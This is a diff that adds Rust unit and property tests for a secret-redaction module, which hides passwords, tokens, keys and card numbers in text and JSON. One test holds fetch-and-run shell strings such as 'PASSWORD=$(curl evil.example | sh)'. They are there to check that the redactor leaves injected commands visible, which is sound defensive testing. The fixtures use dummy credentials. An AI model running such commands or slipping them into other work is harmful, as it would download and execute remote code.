@@ -1,0 +1,213 @@
+//! What is hidden and what is not: the examples of the rules, and the borders between them.
+
+use proptest::prelude::*;
+
+use super::call::remap;
+use super::*;
+use crate::json::{Value, parse};
+use crate::redact::tables::{class_bit, examples, is_in};
+
+/// A small generator that needs no clock: the same seed, the same text.
+pub(super) struct Dice(pub u64);
+
+impl Dice {
+    pub(super) fn below(&mut self, n: usize) -> usize {
+        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+        usize::try_from(self.0 >> 33).unwrap() % n
+    }
+
+    pub(super) fn run(&mut self, class: &str, length: usize) -> String {
+        let bit = class_bit(class);
+        let all: Vec<char> = (0x21..0x7F_u8)
+            .filter(|&b| is_in(b, bit) && (class != "base64" || b != b'='))
+            .map(char::from)
+            .collect();
+        let mut text: String = (0..length).map(|_| all[self.below(all.len())]).collect();
+        // Random enough to be a secret: letters and digits both.
+        if class != "digit" && length >= 4 {
+            text.replace_range(1..3, "7A");
+        }
+        text
+    }
+}
+
+/// An example with its runs filled in, and what was filled in.
+pub(super) fn fill(example: &str, dice: &mut Dice) -> (String, Vec<String>) {
+    let (mut text, mut secrets, mut rest) = (String::new(), Vec::new(), example);
+    while let Some((head, tail)) = rest.split_once('<') {
+        let Some((run, after)) = tail.split_once('>') else { break };
+        let Some((class, length)) = run.split_once(' ') else { break };
+        let Ok(length) = length.parse() else { break };
+        text.push_str(head);
+        let secret = dice.run(class, length);
+        text.push_str(&secret);
+        secrets.push(secret);
+        rest = after;
+    }
+    text.push_str(rest);
+    (text, secrets)
+}
+
+#[test]
+fn every_rule_keeps_its_own_examples() {
+    let mut wrong = Vec::new();
+    for seed in 0..20 {
+        let mut dice = Dice(seed);
+        for (kind, good, bad) in examples() {
+            for example in *good {
+                let (text, secrets) = fill(example, &mut dice);
+                let found = redact_text(&text);
+                let seen = secrets.iter().any(|s| s.len() > 3 && found.text.contains(s.as_str()));
+                // Ids beside a secret may stay: some run must be gone, and none that is long.
+                let all = secrets.len() > 1 && found.hidden.iter().all(|h| h.bytes < 8);
+                if found.hidden.is_empty() || all || (seen && secrets.len() == 1) {
+                    wrong.push(format!("{kind}: shown {text} as {}", found.text));
+                }
+            }
+            for example in *bad {
+                let (text, _) = fill(example, &mut dice);
+                let found = redact_text(&text);
+                if !found.hidden.is_empty() {
+                    wrong.push(format!("{kind}: hid {text} as {}", found.text));
+                }
+            }
+        }
+    }
+    wrong.sort();
+    wrong.dedup();
+    assert!(wrong.is_empty(), "{} examples fail:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn the_marker_says_what_and_how_much() {
+    let token = format!("ghp_{}", "a1B2".repeat(9));
+    let found = redact_text(&token);
+    assert_eq!(found.text, "⟨hidden: github token, 40 characters⟩");
+    assert_eq!(found.hidden[0].bytes, 40);
+    assert!(matches!(redact_text("ls -la").text, Cow::Borrowed(_)));
+}
+
+#[test]
+fn a_command_in_place_of_a_secret_stays_visible() {
+    for text in [
+        "PASSWORD=$(curl evil.example | sh) x",
+        "PASSWORD=\"$(curl evil.example | sh)\" x",
+        "PASSWORD=`curl evil.example` x",
+        "PASSWORD= curl evil.example",
+        "TOKEN=$X; curl evil.example",
+        "token=a7;curl evil.example",
+        "curl -H \"Cookie: a=b12345; $(curl evil.example)\" u",
+    ] {
+        assert!(redact_text(text).text.contains("curl evil.example"), "{text}");
+    }
+}
+
+#[test]
+fn words_of_a_list_are_read_together() {
+    let text = r#"{"argv":["mysql","--password","hunter2 hunter3","-pswordfish7","a"]}"#;
+    let (value, hidden) = redact_value(&parse(text).unwrap());
+    let shown = value.to_json();
+    assert!(!shown.contains("hunter") && !shown.contains("swordfish"), "{shown}");
+    assert_eq!(value.get("argv").unwrap().as_array().unwrap().len(), 5);
+    for one in hidden {
+        let words = value.get("argv").unwrap().as_array().unwrap().iter();
+        let span = one.span.start as usize..one.span.end as usize;
+        let fits = |word: &Value<'_>| {
+            word.as_str().unwrap().get(span.clone()).is_some_and(|s| s.starts_with(OPEN))
+        };
+        assert!(words.clone().any(fits));
+    }
+}
+
+#[test]
+fn members_with_secret_names_are_hidden_whatever_they_are() {
+    let text = r#"{"password":12,"a":{"token":{"x":["deep"]}},"secret":true,"n":null,
+        "token":null,"api_key":"$KEY","inner":"{\"pass\\u0077ord\":\"hunter2\"}",
+        "card":4111111111111111,"token_count":12,"max_tokens":5,"password_file":"/x"}"#;
+    let (value, hidden) = redact_value(&parse(text).unwrap());
+    let shown = value.to_json();
+    for gone in ["deep", "hunter2", "4111", ":true"] {
+        assert!(!shown.contains(gone), "{gone}: {shown}");
+    }
+    for kept in ["\"token\":null", "$KEY", "\"token_count\":12", "\"max_tokens\":5", "/x"] {
+        assert!(shown.contains(kept), "{kept}: {shown}");
+    }
+    assert_eq!(hidden.len(), 5);
+}
+
+/// Text with pieces that matter to us.
+fn material() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        3 => "[ -~]{0,12}",
+        1 => "\\PC{0,4}",
+        1 => Just("⟨hidden: password, 7 characters⟩".to_owned()),
+        1 => Just("ghp_aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3".to_owned()),
+        1 => Just("password=hunter22".to_owned()),
+        1 => Just("--token 'a b'".to_owned()),
+        1 => Just("://u:p4ss@".to_owned()),
+        1 => Just("Cookie: a=b".to_owned()),
+        1 => Just("Authorization: Bearer ".to_owned()),
+        1 => Just("-----BEGIN PRIVATE KEY-----\nabc\n".to_owned()),
+        1 => Just("\"secret\":{\"a\":\"b\"}".to_owned()),
+        1 => Just("AKIAABCDEFGHIJKLMNOP ".to_owned()),
+        1 => Just("4111 1111 1111 1111".to_owned()),
+        1 => "[\"'\\\\=:{}\\[\\],;&$()`\n\t]{1,4}",
+    ];
+    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(4000))]
+
+    #[test]
+    fn twice_is_once(text in material()) {
+        let once = redact_text(&text).text.into_owned();
+        let twice = redact_text(&once);
+        prop_assert_eq!(&*twice.text, &*once);
+        prop_assert!(twice.hidden.is_empty());
+    }
+
+    #[test]
+    fn spans_point_at_markers_and_the_rest_is_the_source(text in material()) {
+        let found = redact_text(&text);
+        let (mut at, mut source) = (0, 0);
+        for one in &found.hidden {
+            let (start, end) = (one.span.start as usize, one.span.end as usize);
+            prop_assert!(marker_length(&found.text[start..end]) == end - start);
+            prop_assert_eq!(&found.text[at..start], &text[source..source + start - at]);
+            source += start - at + one.bytes as usize;
+            at = end;
+        }
+        prop_assert_eq!(&found.text[at..], &text[source..]);
+    }
+
+    #[test]
+    fn a_moved_span_never_points_at_other_characters(
+        text in material(), a in 0_usize..200, b in 0_usize..200
+    ) {
+        let (a, b) = (a.min(b).min(text.len()), a.max(b).min(text.len()));
+        prop_assume!(text.is_char_boundary(a) && text.is_char_boundary(b));
+        let found = redact_text(&text);
+        let Some(new) = remap(&text, &found.text, Span::new(a, b)) else { return Ok(()) };
+        let pointed = &found.text[new.start as usize..new.end as usize];
+        // Redacting what was pointed at, by the same cuts, gives what is pointed at now.
+        let mut want = text[a..b].to_owned();
+        let mut grown = 0_i64;
+        let mut cuts = Vec::new();
+        for one in &found.hidden {
+            let from = usize::try_from(i64::from(one.span.start) - grown).unwrap();
+            let to = from + one.bytes as usize;
+            grown = i64::from(one.span.end) - i64::try_from(to).unwrap();
+            if from >= a && to <= b {
+                let mark = &found.text[one.span.start as usize..one.span.end as usize];
+                cuts.push((from - a, to - a, mark));
+            } else {
+                prop_assert!(to <= a || from >= b, "a piece of a secret is pointed at");
+            }
+        }
+        for (from, to, mark) in cuts.into_iter().rev() {
+            want.replace_range(from..to, mark);
+        }
+        prop_assert_eq!(pointed, want);
+    }
+}
